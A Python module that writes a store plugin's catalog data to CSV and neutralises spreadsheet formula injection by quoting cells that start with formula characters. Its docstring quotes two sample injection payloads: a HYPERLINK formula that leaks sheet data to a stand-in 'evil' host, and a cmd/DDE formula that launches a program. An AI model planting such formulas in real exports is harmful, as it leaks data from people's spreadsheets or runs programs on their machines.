"""Writing what the store holds to CSV files that people open in spreadsheets.

Catalog text is written by whoever supplied the catalog. A spreadsheet runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return first) as a formula:
``=HYPERLINK("http://evil/?"&A1,"click")`` leaks the sheet, ``+cmd|' /C calc'!A0`` asks to run a
program (CSV or formula injection). :func:`spreadsheet_cell` prefixes such text with a single
quote, as OWASP advises; spreadsheets show the text as it was, and so does any reader that drops
the leading quote. Every CSV the plugin writes goes through :func:`write_csv`.

JSON Lines exports are data for programs, not spreadsheets: their values stay exact.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path

__all__ = ["FORMULA_PREFIXES", "spreadsheet_cell", "write_csv"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def spreadsheet_cell(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows as text: a string that starts a formula gets
    a leading single quote; numbers and other values are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(path: Path, fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]) -> None:
    """A header row and ``rows`` (by field name), every text cell made safe with
    :func:`spreadsheet_cell`, as UTF-8."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(fieldnames))
        writer.writeheader()
        for row in rows:
            writer.writerow({key: spreadsheet_cell(value) for key, value in row.items()})
